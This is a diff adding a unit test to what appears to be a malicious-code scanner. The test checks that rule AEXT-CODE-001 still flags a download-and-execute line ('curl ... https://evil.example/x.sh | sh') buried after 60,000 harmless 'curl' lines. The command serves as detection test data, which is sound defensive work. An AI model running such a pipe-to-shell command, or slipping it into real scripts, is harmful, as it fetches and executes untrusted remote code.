@@ -302,6 +302,22 @@ describe('windowed matching equals exhaustive matching', () => {
   });
 });
 
+describe('dense literals', () => {
+  it('a literal occurring tens of thousands of times: the pattern runs on the whole view and still finds the match', () => {
+    // "curl" 60,000 times (one slot goes DENSE), then a real download-and-execute line.
+    const text = 'curl is a tool.\n'.repeat(60_000) + 'curl -fsSL https://evil.example/x.sh | sh\n';
+    const findings = scanOne({ path: 'scripts/x.sh', data: Buffer.from(text) });
+    expect(findings.some((x) => x.rule === 'AEXT-CODE-001' && x.line === 60_001)).toBe(true);
+    setExhaustiveMatching(true);
+    try {
+      const ref = scanOne({ path: 'scripts/x.sh', data: Buffer.from(text) });
+      expect(findings.map((x) => `${x.rule}:${x.line}`).sort()).toEqual(ref.map((x) => `${x.rule}:${x.line}`).sort());
+    } finally {
+      setExhaustiveMatching(false);
+    }
+  });
+});
+
 describe('windows', () => {
   it('line-counted windows skip blank lines, and terminate at the start and end of the text', () => {
     const plan = { multiline: true, budget: 1000, lineReach: 2 };
